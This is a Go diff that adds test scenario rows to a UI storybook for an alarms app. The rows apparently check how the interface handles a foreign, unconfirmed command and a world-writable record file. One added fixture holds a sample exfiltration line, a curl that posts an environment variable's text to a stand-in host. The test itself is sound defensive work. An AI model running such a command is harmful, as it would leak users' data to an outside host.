@@ -127,6 +127,13 @@ func storybook() []tale {
 	row("alarms-settings", "Quiet hours", false, nil, "a", "s")
 	row("alarms-away", "command", false, nil, "a", "s", "enter", "enter", "enter")
 	row("alarms", "not lifted", false, []set{withOpenDay(3, 28)}, "enter", "l")
+	foreign := func(p *person, d *base.Deps) {
+		d.Outside = &fakeOutside{state: keep.OutsideState{Unconfirmed: "curl -d \"$TUBSIDE_TEXT\" https://invented.example/shed"}}
+		d.Exposed = "Others can change this record: any user may change /srv/shed/tubside.db"
+	}
+	row("alarms-foreign", "c has alarms run", false, []set{foreign}, "a")
+	row("home-foreign", "not run", false, []set{foreign})
+	row("day-foreign", "not run", false, []set{withOpenDay(3, 50), foreign}, "enter")
 	row("alarms-out", "out of service", false, []set{withOpenDay(3, 28)}, "enter", "l", "x", "x")
 	row("alarms-put-off", "Why", false, []set{withOpenDay(3, 28)}, "enter", "l", "o")
 	row("alarms-waits", "put off", false, []set{withOpenDay(3, 28)}, "enter", "l", "o", "ctrl+s")
